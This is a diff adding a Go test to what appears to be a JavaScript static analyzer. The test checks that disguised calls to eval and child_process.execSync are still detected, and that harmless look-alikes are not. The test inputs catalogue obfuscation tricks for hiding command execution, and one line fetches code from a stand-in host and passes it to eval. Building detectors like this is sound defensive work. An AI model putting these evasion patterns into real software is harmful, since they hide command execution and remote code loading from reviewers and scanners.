@@ -226,6 +226,62 @@ var v = 'a' + 'b'.toUpperCase();
 	}
 }
 
+func TestCallsInDisguise(t *testing.T) {
+	for name, tc := range map[string]struct{ src, callee, arg string }{
+		"escaped name":      {`\u0065val("1+1"); require("child_process").\u0065xecSync("id")`, "child_process.execSync", "id"},
+		"escaped global":    {`\u{65}val(x)`, "eval", ""},
+		"with module":       {`with (require("child_process")) { execSync("id") }`, "child_process.execSync", "id"},
+		"Reflect.get":       {`const cp = require("child_process"); Reflect.get(cp, "exec" + "Sync")("id")`, "child_process.execSync", "id"},
+		"tagged template":   {"const { execSync } = require('child_process'); execSync`id`", "child_process.execSync", "id"},
+		"worker eval":       {`const { Worker } = require("worker_threads"); new Worker("require('os')", { eval: true })`, "worker_threads.Worker.eval", "require('os')"},
+		"worker eval as !0": {`new (require("worker_threads").Worker)(code, { eval: !0 })`, "worker_threads.Worker.eval", ""},
+		"bound":             {`const cp = require("child_process"); const run = cp.execSync.bind(cp); run("id")`, "child_process.execSync", "id"},
+		"computed key":      {`const { ["exe" + "cSync"]: run } = require("child_process"); run("id")`, "child_process.execSync", "id"},
+		"exports member":    {`exports.run = require("child_process").execSync; exports.run("id")`, "child_process.execSync", "id"},
+		"onto global":       {`Object.assign(globalThis, require("child_process")); execSync("id")`, "child_process.execSync", "id"},
+		"call.call":         {`Function.prototype.call.call(require("child_process").execSync, null, "id")`, "child_process.execSync", "id"},
+		"forEach reference": {`const cp = require("child_process"); ["id"].forEach(cp.execSync)`, "child_process.execSync", "id"},
+		"then(eval)":        {`fetch("https://h.invalid/p.js").then(r => r.text()).then(eval)`, "eval", ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			f := Analyze("a.js", []byte(tc.src), DefaultLimits())
+			c := hasCall(f, tc.callee)
+			if c == nil {
+				t.Fatalf("no %s in %+v", tc.callee, f.Calls)
+			}
+			if tc.arg != "" && (len(c.Args) == 0 || c.Args[0].Value != tc.arg) {
+				t.Errorf("args %+v", c.Args)
+			}
+			if name == "then(eval)" && c.NetArg == "" {
+				t.Errorf("eval of a response without NetArg: %+v", c)
+			}
+		})
+	}
+	// look-alikes: a with over a plain object, a worker from a file,
+	// tagged templates of libraries, Reflect.get of a plain property
+	f := Analyze("b.js", []byte(`with (obj) { exec(x) }
+const { Worker } = require("worker_threads"); new Worker("./w.js", { workerData: 1 });
+const q = gql`+"`query { a }`"+`; const b = styled.div`+"`color: red`"+`;
+Reflect.get(target, "exec");
+const { ["se" + "nd"]: send } = api; send(1);
+exports.run = helper.run; exports.run("x");
+Object.assign(globalThis, { exec: 1 }); exec(2);
+[1, 2].forEach(console.log); load().then(JSON.parse);
+const run = require("util").promisify(require("child_process").execFile);
+function B(request) { this.request = request; } B.prototype.go = function () { return this.request(); };`), DefaultLimits())
+	for _, c := range f.Calls {
+		if strings.HasPrefix(c.Callee, "child_process") || c.Callee == "worker_threads.Worker.eval" || c.Callee == "eval" {
+			t.Errorf("look-alike gave %s", c.Callee)
+		}
+	}
+	if hasCall(f, "request") != nil {
+		t.Errorf("a parameter named like a module bound a member: %+v", f.Calls)
+	}
+	if hasCall(f, "worker_threads.Worker") == nil {
+		t.Errorf("the file worker is no longer a worker: %+v", f.Calls)
+	}
+}
+
 func TestLexerErrorsCostLittle(t *testing.T) {
 	// Every lexer error costs the lexer a copy of its input. A large file
 	// of bad lines once cost that for the rest of the file at each line;
